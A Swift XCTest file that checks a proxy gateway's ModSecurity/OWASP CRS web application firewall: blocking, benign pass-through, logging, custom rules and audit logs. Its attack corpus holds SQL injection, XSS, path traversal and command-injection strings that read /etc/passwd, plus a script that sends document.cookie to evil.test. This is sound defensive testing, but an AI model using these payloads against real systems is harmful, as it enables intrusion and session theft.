import AsyncHTTPClient
import Foundation
import NIOHTTP1
import XCTest

@testable import PorticoProxy

/// `waf` on a running gateway with Debian's libmodsecurity3 and OWASP Core Rule Set 3.3.4 at paranoia level 1,
/// anomaly scoring as its own crs-setup.conf sets it: an attack corpus blocked with 403 before the upstream
/// sees it, a benign corpus (odd-looking but harmless) let through, ModSecurity's error-log lines with the
/// rule ids the CRS documents for each attack, custom rules, response inspection, and a saturated WAF pool.
final class WAFTests: XCTestCase {
  var gateway: TestGateway!
  let recorder = DemoUpstream.RequestRecorder()

  override func setUp() async throws {
    try XCTSkipUnless(
      FileManager.default.fileExists(atPath: "/usr/share/modsecurity-crs/rules"),
      "Debian's modsecurity-crs is not installed")
    let folder = FileManager.default.temporaryDirectory.appendingPathComponent("portico-waf-\(UUID())")
    gateway = try await TestGateway(
      upstreams: ["echo"], behaviours: ["echo": .init(recorder: recorder)],
      manifests: { gateway in Self.manifests(echo: gateway.port("echo")) },
      configure: { options in
        options.wafLog = folder.appendingPathComponent("waf.log").path
        options.wafAuditLog = folder.appendingPathComponent("audit.log").path
        try? FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
      })
    logPath = folder.appendingPathComponent("waf.log").path
    auditPath = folder.appendingPathComponent("audit.log").path
  }

  private var auditPath = ""

  private var logPath = ""

  override func tearDown() async throws { await gateway?.stop() }

  static func manifests(echo: Int) -> String {
    gatewayManifest() + staticDestination("echo", ports: [echo])
      + virtualHost(
        "shop.test",
        options: """
            options:
              trafficPolicy:
                waf:
                  coreRuleSet: {}
          """,
        routes: """
            - matchers: [{uri: {prefix: /open}}]
              options: {waf: {disabled: true}}
              routeAction: {destinations: [{staticDestination: {name: echo}}]}
            - routeAction: {destinations: [{staticDestination: {name: echo}}]}
          """)
      + virtualHost(
        "orders.test",
        options: """
            options:
              trafficPolicy:
                waf:
                  customInterventionMessage: "order refused\\n"
                  ruleSets:
                  - ruleStr: |
                      SecRuleEngine On
                      SecRule ARGS:id "!@rx ^[0-9]+$" "id:10001,phase:2,deny,status:422,msg:'id must be numeric'"
                      SecRule RESPONSE_BODY "@contains internal-secret" "id:10002,phase:4,deny,status:502,msg:'leak'"
          """,
        routes: """
            - routeAction: {destinations: [{staticDestination: {name: echo}}]}
          """)
      + virtualHost(
        "audited.test",
        options: """
            options:
              trafficPolicy:
                waf:
                  auditLogging: {action: RELEVANT_ONLY}
                  ruleSets:
                  - ruleStr: |
                      SecRule ARGS:id "!@rx ^[0-9]+$" "id:10004,phase:2,deny,status:403,msg:'id must be numeric'"
          """,
        routes: """
            - routeAction: {destinations: [{staticDestination: {name: echo}}]}
          """)
      + virtualHost(
        "broken.test",
        options: """
            options:
              trafficPolicy:
                waf:
                  ruleSets:
                  - ruleStr: |
                      SecRuleEngine On
                      SecRule ARGS "@rx x" "id:10003,phase:2,deny
                      SecRule FOO bar
          """,
        routes: """
            - routeAction: {destinations: [{staticDestination: {name: echo}}]}
          """)
  }

  /// Attacks from the CRS's own categories, each with the rule the CRS documents for it.
  static let attacks:
    [(
      name: String, method: HTTPMethod, path: String, headers: [(String, String)], body: String?, rule: String
    )] = [
      ("SQL injection in the query", .GET, "/search?q=1%27%20OR%20%271%27%3D%271", [], nil, "942100"),
      ("XSS in the query", .GET, "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", [], nil, "941100"),
      ("path traversal", .GET, "/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd", [], nil, "930120"),
      ("remote command execution", .GET, "/run?cmd=%3Bcat%20%2Fetc%2Fpasswd", [], nil, "932160"),
      (
        "scanner user agent", .GET, "/", [("user-agent", "sqlmap/1.5.2#stable (http://sqlmap.org)")], nil,
        "913100"
      ),
      ("GET with a body (protocol)", .GET, "/", [("content-type", "text/plain")], "hello", "920170"),
      (
        "SQL injection in a form", .POST, "/login", [("content-type", "application/x-www-form-urlencoded")],
        "user=admin&pass=1%27%20UNION%20SELECT%20password%20FROM%20users--", "942100"
      ),
      (
        "XSS in a JSON body", .POST, "/comments", [("content-type", "application/json")],
        #"{"comment": "<script>document.location='http://evil.test/?c='+document.cookie</script>"}"#, "941100"
      ),
      ("XSS in a header", .GET, "/", [("referer", "<script>alert(1)</script>")], nil, "941100"),
    ]

  /// Requests that look odd and are harmless.
  static let benign:
    [(name: String, method: HTTPMethod, path: String, headers: [(String, String)], body: String?)] = [
      ("plain query", .GET, "/products?page=2&sort=price", [], nil),
      ("Unicode names", .GET, "/users?name=%E5%BC%A0%E4%BC%9F&city=Z%C3%BCrich", [], nil),
      ("base64 value", .GET, "/img?data=aGVsbG8gd29ybGQsIHRoaXMgaXMgYmFzZTY0IQ%3D%3D", [], nil),
      (
        "long JSON", .POST, "/orders", [("content-type", "application/json")],
        "{\"customer\": \"Zoë Ångström\", \"items\": ["
          + (0..<200).map {
            "{\"sku\": \"SKU-\($0)\", \"quantity\": \($0 % 7 + 1), \"note\": \"gift wrap, please\"}"
          }
          .joined(separator: ", ") + "]}"
      ),
      (
        "form", .POST, "/signup", [("content-type", "application/x-www-form-urlencoded")],
        "name=Jane+O%27Neil&email=jane%40example.com&about=I+like+cats+%26+dogs"
      ),
      ("browser", .GET, "/", [("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0")], nil),
    ]

  func testAttacksAreBlockedBeforeTheUpstream() async throws {
    for attack in Self.attacks {
      let response = try await send(
        attack.method, gateway.base + attack.path, host: "shop.test",
        headers: [("user-agent", "curl/8.0"), ("accept", "*/*")].filter { name, _ in
          !attack.headers.contains { $0.0 == name }
        } + attack.headers, body: attack.body)
      XCTAssertEqual(response.status, 403, attack.name)
    }
    XCTAssertEqual(recorder.requests.count, 0, "the upstream saw a blocked request")
  }

  func testBenignRequestsPass() async throws {
    for request in Self.benign {
      let response = try await send(
        request.method, gateway.base + request.path, host: "shop.test",
        headers: [("user-agent", "curl/8.0"), ("accept", "*/*")].filter { name, _ in
          !request.headers.contains { $0.0 == name }
        } + request.headers, body: request.body)
      XCTAssertEqual(response.status, 200, "\(request.name): \(response.body)")
    }
    XCTAssertEqual(recorder.requests.count, Self.benign.count)
    // The body the rules read is the body the upstream gets.
    XCTAssertEqual(recorder.requests[3].bodyBytes, Self.benign[3].body!.utf8.count)
  }

  func testErrorLogNamesTheRulesInModSecurityFormat() async throws {
    for attack in Self.attacks {
      _ = try await send(
        attack.method, gateway.base + attack.path, host: "shop.test",
        headers: [("user-agent", "curl/8.0"), ("accept", "*/*")].filter { name, _ in
          !attack.headers.contains { $0.0 == name }
        } + attack.headers, body: attack.body)
    }
    let log = try await waitForLog { log in Self.attacks.allSatisfy { log.contains("[id \"\($0.rule)\"]") } }
    for attack in Self.attacks {
      XCTAssertTrue(log.contains("[id \"\(attack.rule)\"]"), "\(attack.name): rule \(attack.rule) not logged")
    }
    let line = try XCTUnwrap(log.split(separator: "\n").first { $0.contains("[id \"942100\"]") })
    for field in ["[file \"", "[line \"", "[msg \"", "[data \"", "[severity \"", "[uri \"", "[unique_id \""] {
      XCTAssertTrue(line.contains(field), "no \(field) in \(line)")
    }
    // unique_id is the request ID of the access log.
    let ids = await gateway.accessLog().compactMap { $0["request_id"] as? String }
    let unique = try XCTUnwrap(line.firstMatch(of: /\[unique_id "([^"]+)"\]/)?.1)
    XCTAssertTrue(ids.contains(String(unique)))
    XCTAssertTrue(log.contains("Inbound Anomaly Score Exceeded"), "the blocking rule (949110) is logged")
  }

  /// A request's lines reach the WAF log within 50 ms of its response (the median of several, so that one
  /// request delayed by a busy machine does not decide it).
  func testLogLinesAreWrittenWithinFiftyMillisecondsOfTheRequest() async throws {
    var delays: [Double] = []
    for round in 0..<9 {
      let marker = "waflate\(round)x"
      _ = try await send(.GET, gateway.base + "/orders?id=\(marker)", host: "orders.test")
      let answered = Date()
      while !((try? String(contentsOfFile: logPath, encoding: .utf8))?.contains(marker) ?? false) {
        guard Date().timeIntervalSince(answered) < 2 else { break }
        try await Task.sleep(for: .milliseconds(2))
      }
      delays.append(Date().timeIntervalSince(answered))
    }
    let median = delays.sorted()[delays.count / 2]
    XCTAssertLessThan(median, 0.05, "delays: \(delays)")
  }

  /// A response whose body is not inspected (no inspectable type) leaves once its headers are: its body
  /// follows, whatever arrived while the rules ran.
  func testResponsesWhoseBodyIsNotInspectedArriveWhole() async throws {
    let response = try await send(.GET, gateway.base + "/bytes/5000", host: "shop.test")
    XCTAssertEqual(response.status, 200)
    XCTAssertEqual(response.body.utf8.count, 5000)
  }

  func testADisabledChildServesWithoutInspection() async throws {
    let response = try await send(
      .GET, gateway.base + "/open?q=1%27%20OR%20%271%27%3D%271", host: "shop.test")
    XCTAssertEqual(response.status, 200)
  }

  func testCustomRulesBlockAndPassAsWritten() async throws {
    let good = try await send(.GET, gateway.base + "/orders?id=12", host: "orders.test")
    XCTAssertEqual(good.status, 200)
    let bad = try await send(.GET, gateway.base + "/orders?id=12x", host: "orders.test")
    XCTAssertEqual(bad.status, 422)
    XCTAssertEqual(bad.body, "order refused\n")
    // Phase 4: the echo's body carries the path, and the rule refuses the response.
    let leaked = try await send(.GET, gateway.base + "/internal-secret?id=1", host: "orders.test")
    XCTAssertEqual(leaked.status, 502)
    XCTAssertEqual(leaked.body, "order refused\n")
  }

  func testRulesThatDoNotCompileReplaceTheRouteAndAreReported() async throws {
    let response = try await send(.GET, gateway.base + "/", host: "broken.test")
    XCTAssertNotEqual(response.status, 200)
    XCTAssertEqual(recorder.requests.count, 0)
    let status = try await send(.GET, "http://127.0.0.1:\(gateway.adminPort)/status", host: "admin").body
    XCTAssertTrue(status.contains("rules do not compile"), status)
    XCTAssertTrue(status.contains("waf.ruleSets[0].ruleStr"), status)
    XCTAssertTrue(status.contains("line 3 of these rules: Expecting a variable"), status)
  }

  /// RELEVANT_ONLY: a blocked request's transaction is in the audit log, in ModSecurity's native serial
  /// format with the request ID; one that passed is not.
  func testRelevantTransactionsGoToTheAuditLog() async throws {
    let blocked = try await send(.GET, gateway.base + "/items?id=x1", host: "audited.test")
    XCTAssertEqual(blocked.status, 403)
    let passed = try await send(.GET, gateway.base + "/items?id=12", host: "audited.test")
    XCTAssertEqual(passed.status, 200)
    let records = await gateway.accessLog()
    let id = { (path: String) in records.first { $0["path"] as? String == path }?["request_id"] as? String }
    let blockedID = try XCTUnwrap(id("/items?id=x1"))
    let passedID = try XCTUnwrap(id("/items?id=12"))
    var audit = ""
    for _ in 0..<100 where !audit.contains(blockedID) {
      audit = (try? String(contentsOfFile: auditPath, encoding: .utf8)) ?? ""
      try await Task.sleep(for: .milliseconds(20))
    }
    XCTAssertTrue(audit.contains(blockedID), audit)
    XCTAssertTrue(audit.contains("---A--") && audit.contains("---Z--"), audit)
    XCTAssertTrue(audit.contains("GET /items?id=x1"), audit)
    XCTAssertFalse(audit.contains(passedID))
  }

  func testBlocksAreCounted() async throws {
    _ = try await send(.GET, gateway.base + Self.attacks[0].path, host: "shop.test")
    _ = try await send(.GET, gateway.base + "/products", host: "shop.test")
    let metrics = try await send(
      .GET, "http://127.0.0.1:\(gateway.adminPort)/stats/prometheus", host: "admin"
    ).body
    XCTAssertTrue(metrics.contains(#"outcome="blocked"} 1"#), metrics)
    XCTAssertTrue(metrics.contains(#"outcome="allowed"} 1"#), metrics)
  }

  /// The WAF log as the gateway wrote it, once `done` holds (lines are written as requests end).
  private func waitForLog(_ done: (String) -> Bool) async throws -> String {
    let deadline = Date().addingTimeInterval(5)
    var text = ""
    while Date() < deadline {
      text = (try? String(contentsOfFile: logPath, encoding: .utf8)) ?? ""
      if done(text) { return text }
      try await Task.sleep(for: .milliseconds(20))
    }
    return text
  }
}
